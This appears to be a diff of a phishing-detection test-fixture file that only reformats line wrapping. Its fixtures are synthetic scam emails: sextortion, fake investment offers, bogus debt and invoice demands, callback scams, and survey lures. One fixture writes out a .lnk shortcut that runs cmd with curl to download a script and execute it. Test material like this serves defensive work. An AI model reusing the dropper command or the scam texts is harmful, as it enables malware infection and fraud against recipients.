       dkim: ['gmx.fr:badeba3b8450'],
       relay: 'mout.gmx.net [212.227.15.19]',
-      body: plain('Je connais votre mot de passe et j\'ai installé un logiciel sur votre ordinateur. J\'ai une vidéo de vous devant des sites pour adultes. Envoyez 1 200 € en bitcoin à bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 sous 48 heures ou la vidéo part à tous vos contacts.'),
+      body: plain(
+        "Je connais votre mot de passe et j'ai installé un logiciel sur votre ordinateur. J'ai une vidéo de vous devant des sites pour adultes. Envoyez 1 200 € en bitcoin à bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 sous 48 heures ou la vidéo part à tous vos contacts.",
+      ),
     }),
   },
   {
     // Investment fraud through a hijacked Brevo account of a wine merchant: a "livret" at 7 %
     // guaranteed, call an advisor.
-    name: 'Placement « livret garanti à 7 % » via le compte Brevo piraté d\'un caviste, rappel par un conseiller',
+    name: "Placement « livret garanti à 7 % » via le compte Brevo piraté d'un caviste, rappel par un conseiller",
     lang: 'fr',
     lure: 'advance-fee',
     expect: ['fraud'],
@@ -1011,7 +1129,13 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['cave-saint-vincent.fr:brevo1', 'sendinblue.com:mail'],
       returnPath: 'bounces-244187230-monique.girard=free.fr@sendibt3.com',
       relay: 'smtp-relay.mailin.fr [185.107.232.44]',
-      headers: ['List-Unsubscribe: <https://cavesaintvincent.r.af.d.sendibt2.com/tr/un/li/Qm7Rk2pT9v>', LIST_UNSUBSCRIBE_POST, 'X-Mailin-EID: Qm7Rk2pT9v', 'Feedback-ID: cavesaintvincent:brevo', 'X-Mailer: Brevo'],
+      headers: [
+        'List-Unsubscribe: <https://cavesaintvincent.r.af.d.sendibt2.com/tr/un/li/Qm7Rk2pT9v>',
+        LIST_UNSUBSCRIBE_POST,
+        'X-Mailin-EID: Qm7Rk2pT9v',
+        'Feedback-ID: cavesaintvincent:brevo',
+        'X-Mailer: Brevo',
+      ],
       body: document([
         'Madame, Monsieur,',
         'Les livrets bancaires rapportent moins de 3 %. Notre livret partenaire vous garantit 7 % par an, capital garanti, disponible à tout moment, à partir de 5 000 €. Places limitées à 40 épargnants ce mois-ci.',
@@ -1037,7 +1161,16 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'smtp.vandijk-groothandel.nl [198.51.100.9]',
       body: multipart('mixed', [
         plain('Goedemorgen,\nzie bijlage voor onze nieuwe bestelling. Graag bevestiging van levertijd.\nMvg, inkoop'),
-        attachment('PO4471.zip', 'application/zip', zip({ 'PO4471.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\cmd.exe', '/c curl -s https://po-docs.vandijk-cdn.top/a.cmd -o %TEMP%\\a.cmd && %TEMP%\\a.cmd') })),
+        attachment(
+          'PO4471.zip',
+          'application/zip',
+          zip({
+            'PO4471.pdf.lnk': shortcut(
+              '..\\..\\..\\Windows\\System32\\cmd.exe',
+              '/c curl -s https://po-docs.vandijk-cdn.top/a.cmd -o %TEMP%\\a.cmd && %TEMP%\\a.cmd',
+            ),
+          }),
+        ),
       ]),
     }),
   },
@@ -1057,7 +1190,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['duo-aflossing.sbs:mail'],
       relay: 'mail.duo-aflossing.sbs [203.0.113.121]',
       auth: { dmarc: 'none' },
-      body: plain('Beste Sanne,\n\nU heeft een achterstand van € 246,18 op de aflossing van uw studieschuld. Betaal binnen 3 dagen via iDEAL, anders wordt de vordering overgedragen aan de deurwaarder en komen de kosten voor uw rekening.\n\nBetalen: https://duo-aflossing.sbs/ideal/246-18\n\nDienst Uitvoering Onderwijs'),
+      body: plain(
+        'Beste Sanne,\n\nU heeft een achterstand van € 246,18 op de aflossing van uw studieschuld. Betaal binnen 3 dagen via iDEAL, anders wordt de vordering overgedragen aan de deurwaarder en komen de kosten voor uw rekening.\n\nBetalen: https://duo-aflossing.sbs/ideal/246-18\n\nDienst Uitvoering Onderwijs',
+      ),
     }),
   },
   {
@@ -1100,7 +1235,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['exact-online-abonnement.shop:mail'],
       relay: 'mail.exact-online-abonnement.shop [203.0.113.16]',
       auth: { dmarc: 'none' },
-      body: plain('Geachte klant,\n\nDe factuur voor uw Exact Online-abonnement (€ 94,38) is niet voldaan. Uw administratie is daarom alleen-lezen. Betaal vandaag om weer te kunnen boeken en facturen te versturen: https://exact-online-abonnement.shop/betalen\n\nExact'),
+      body: plain(
+        'Geachte klant,\n\nDe factuur voor uw Exact Online-abonnement (€ 94,38) is niet voldaan. Uw administratie is daarom alleen-lezen. Betaal vandaag om weer te kunnen boeken en facturen te versturen: https://exact-online-abonnement.shop/betalen\n\nExact',
+      ),
     }),
   },
   {
@@ -1118,7 +1255,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAQ2tU5xS8vR3mK1wM9bP6cJ4dH7sY0m_sW5vX@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-ej1-f67.google.com [209.85.218.67]',
-      body: plain('Beste klant,\n\nBedankt voor uw bestelling: Apple iPad Pro 13" 256 GB, € 899,00, wordt morgen afgeschreven. Heeft u dit niet besteld? Bel dan direct onze klantenservice op 085 208 4471 om de bestelling te annuleren.\n\nbol'),
+      body: plain(
+        'Beste klant,\n\nBedankt voor uw bestelling: Apple iPad Pro 13" 256 GB, € 899,00, wordt morgen afgeschreven. Heeft u dit niet besteld? Bel dan direct onze klantenservice op 085 208 4471 om de bestelling te annuleren.\n\nbol',
+      ),
     }),
   },
   {
@@ -1137,7 +1276,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20251108224109.77ab@mailversand-direkt.de',
       relay: 'mx4.mailversand-direkt.de [203.0.113.71]',
       auth: 'absent',
-      body: plain('Hallo,\n\nich sehe, wir wohnen in der Nähe. Hättest du Lust, dich diese Woche zu treffen? Ich habe dir private Fotos freigeschaltet.\n\nTriff dich nur mit Leuten, die Sex in deiner Nähe wollen: https://lena-treff.example.net/chat\n\nAbmelden: https://lena-treff.example.net/abmelden'),
+      body: plain(
+        'Hallo,\n\nich sehe, wir wohnen in der Nähe. Hättest du Lust, dich diese Woche zu treffen? Ich habe dir private Fotos freigeschaltet.\n\nTriff dich nur mit Leuten, die Sex in deiner Nähe wollen: https://lena-treff.example.net/chat\n\nAbmelden: https://lena-treff.example.net/abmelden',
+      ),
     }),
   },
   {
@@ -1194,7 +1335,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20251203112000.k2x9q7w1v8@b7m2n9q4.com',
       relay: 'mta1.b7m2n9q4.com [203.0.113.140]',
       auth: 'absent',
-      body: plain('Doctors are stunned: a retired nurse lost 31 lbs with an 8-second morning ritual, no diet, no gym. Watch the free video before it is taken down: https://slim-ritual-video.web.app/watch'),
+      body: plain(
+        'Doctors are stunned: a retired nurse lost 31 lbs with an 8-second morning ritual, no diet, no gym. Watch the free video before it is taken down: https://slim-ritual-video.web.app/watch',
+      ),
     }),
   },
   {
@@ -1212,7 +1355,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20251116193012.c41d@reisen-vergleich24.de',
       relay: 'out.reisen-vergleich24.de [203.0.113.52]',
       auth: 'absent',
-      body: plain('Hallo,\n\nwillkommen im Casino Goldrausch! Ihr Willkommensbonus von bis zu 500 € + 150 Freispiele ist nur einen Klick entfernt: https://goldrausch-bonus.example.org/start\n\nAbmelden: https://goldrausch-bonus.example.org/stop'),
+      body: plain(
+        'Hallo,\n\nwillkommen im Casino Goldrausch! Ihr Willkommensbonus von bis zu 500 € + 150 Freispiele ist nur einen Klick entfernt: https://goldrausch-bonus.example.org/start\n\nAbmelden: https://goldrausch-bonus.example.org/stop',
+      ),
     }),
   },
   {
@@ -1229,7 +1374,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20251110074510.77c1@wealth-signal.xyz',
       dkim: ['wealth-signal.xyz:s1'],
       relay: 'mail.wealth-signal.xyz [203.0.113.203]',
-      body: plain('Join 40,000 members who let our trading robot work for them. We guarantee daily payouts from your first day. Register free: https://wealth-signal.xyz/join'),
+      body: plain(
+        'Join 40,000 members who let our trading robot work for them. We guarantee daily payouts from your first day. Register free: https://wealth-signal.xyz/join',
+      ),
     }),
   },
   {
@@ -1268,7 +1415,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       date: 'Wed, 4 Sep 2024 01:52:10 -0300',
       messageId: '20240904045210.91ab@notifica-processos.net',
       relay: 'mail.notifica-processos.net [203.0.113.62]',
-      body: plain('INTIMAÇÃO ELETRÔNICA\n\nÓrgão: Polícia Civil\nClasse: criminal\nTipo: pedido de explicações\n\nPrezado(a), consta em seu nome um boletim de ocorrência. Para ler o teor completo e evitar as medidas cabíveis, acesse em até 48 horas:\nhttps://consulta-boletim.top/bo/88213\n'),
+      body: plain(
+        'INTIMAÇÃO ELETRÔNICA\n\nÓrgão: Polícia Civil\nClasse: criminal\nTipo: pedido de explicações\n\nPrezado(a), consta em seu nome um boletim de ocorrência. Para ler o teor completo e evitar as medidas cabíveis, acesse em até 48 horas:\nhttps://consulta-boletim.top/bo/88213\n',
+      ),
     }),
   },
   {
@@ -1307,7 +1456,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       date: 'Mon, 12 Feb 2024 09:41:17 +0000',
       messageId: 'PAXP193MB2261E4C1B7A0D95F3C2B8A61D4E2A@PAXP193MB2261.EURP193.PROD.OUTLOOK.COM',
       relay: 'mail-db8eur05on2090.outbound.protection.outlook.com [40.107.20.90]',
-      body: plain('Tu unidad de almacenamiento está llena. Si no actúas en 24 horas, se eliminarán tus archivos y fotos. Inicia sesión para verificar tu cuenta y conservarlos.\n\nEquipo de almacenamiento'),
+      body: plain(
+        'Tu unidad de almacenamiento está llena. Si no actúas en 24 horas, se eliminarán tus archivos y fotos. Inicia sesión para verificar tu cuenta y conservarlos.\n\nEquipo de almacenamiento',
+      ),
     }),
   },
   // ---------------------------------------------------------------- Picture-only lures hot-linked from image-sharing sites
@@ -1328,7 +1479,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20250305034109.77f1c2@acct-notices-center.com',
       dkim: ['acct-notices-center.com:s1'],
       relay: 'mail.acct-notices-center.com [203.0.113.52]',
-      body: html('<html><body><center><a href="https://renew-billing-portal.com/u/martin.kowalski@northfieldplumbing.com"><img src="https://i.imgur.com/Rk8vT3q.png" width="600"></a></center></body></html>'),
+      body: html(
+        '<html><body><center><a href="https://renew-billing-portal.com/u/martin.kowalski@northfieldplumbing.com"><img src="https://i.imgur.com/Rk8vT3q.png" width="600"></a></center></body></html>',
+      ),
     }),
   },
   {
@@ -1347,7 +1500,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20250311051244.3a9e@gestion-cobros-online.com',
       dkim: ['gestion-cobros-online.com:s1'],
       relay: 'mail.gestion-cobros-online.com [203.0.113.53]',
-      body: html('<html><body><a href="https://pago-facturas-pendientes.com/f/lucia.ferrer@talleresferrer.es"><input type="image" src="//i.ibb.co/7Kp2xQm/aviso.jpg"></a></body></html>'),
+      body: html(
+        '<html><body><a href="https://pago-facturas-pendientes.com/f/lucia.ferrer@talleresferrer.es"><input type="image" src="//i.ibb.co/7Kp2xQm/aviso.jpg"></a></body></html>',
+      ),
     }),
   },
   // Rewards promised in the name of a shop the sender is not (2023–2025 campaigns): a "customer
@@ -1366,12 +1521,15 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20241112094107.5c1a@news-rabattwelt.example',
       relay: 'mta4.news-rabattwelt.example [203.0.113.41]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Sehr geehrter Douglas-Kunde,',
-        'Nehmen Sie an unserer kurzen Umfrage teil und erhalten Sie ein exklusives Geschenkset als Dankeschön.',
-        { button: 'Zur Umfrage', href: 'https://kundenumfrage-geschenk.example/d?id=88213' },
-        { small: 'Abmelden' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          'Sehr geehrter Douglas-Kunde,',
+          'Nehmen Sie an unserer kurzen Umfrage teil und erhalten Sie ein exklusives Geschenkset als Dankeschön.',
+          { button: 'Zur Umfrage', href: 'https://kundenumfrage-geschenk.example/d?id=88213' },
+          { small: 'Abmelden' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1406,10 +1564,10 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20240307071540.9e2f@meteo-actus-news.example',
       relay: 'mx2.meteo-actus-news.example [203.0.113.90]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Ne manquez pas votre chance de gagner un robot cuiseur multifonction !',
-        { button: 'Je participe', href: 'https://enquete-cadeau.example/cd?r=17' },
-      ], { lang: 'fr' }),
+      body: document(
+        ['Ne manquez pas votre chance de gagner un robot cuiseur multifonction !', { button: 'Je participe', href: 'https://enquete-cadeau.example/cd?r=17' }],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1425,10 +1583,13 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20240603112033.1b7d@ofertas-del-dia.example',
       relay: 'mail.ofertas-del-dia.example [198.51.100.23]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Estimado cliente de Carrefour: ayúdenos a mejorar. Complete nuestra encuesta y reciba un kit de emergencia para el coche.',
-        { button: 'Empezar', href: 'https://encuesta-premio.example/c?id=5521' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado cliente de Carrefour: ayúdenos a mejorar. Complete nuestra encuesta y reciba un kit de emergencia para el coche.',
+          { button: 'Empezar', href: 'https://encuesta-premio.example/c?id=5521' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -1444,10 +1605,10 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20240717170512.4c2e@promo-vantagens.example',
       relay: 'mta.promo-vantagens.example [203.0.113.55]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Responda à nossa pesquisa e receba um brinde exclusivo da Magalu.',
-        { button: 'Responder', href: 'https://pesquisa-brinde.example/m?u=902' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        ['Responda à nossa pesquisa e receba um brinde exclusivo da Magalu.', { button: 'Responder', href: 'https://pesquisa-brinde.example/m?u=902' }],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -1463,10 +1624,10 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '20241115164401.3a9c@voordeel-nieuws.example',
       relay: 'out.voordeel-nieuws.example [198.51.100.140]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Vul onze korte enquête in en ontvang een cadeaukaart van 50 euro.',
-        { button: 'Start', href: 'https://enquete-beloning.example/ah?k=77' },
-      ], { lang: 'nl' }),
+      body: document(
+        ['Vul onze korte enquête in en ontvang een cadeaukaart van 50 euro.', { button: 'Start', href: 'https://enquete-beloning.example/ah?k=77' }],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
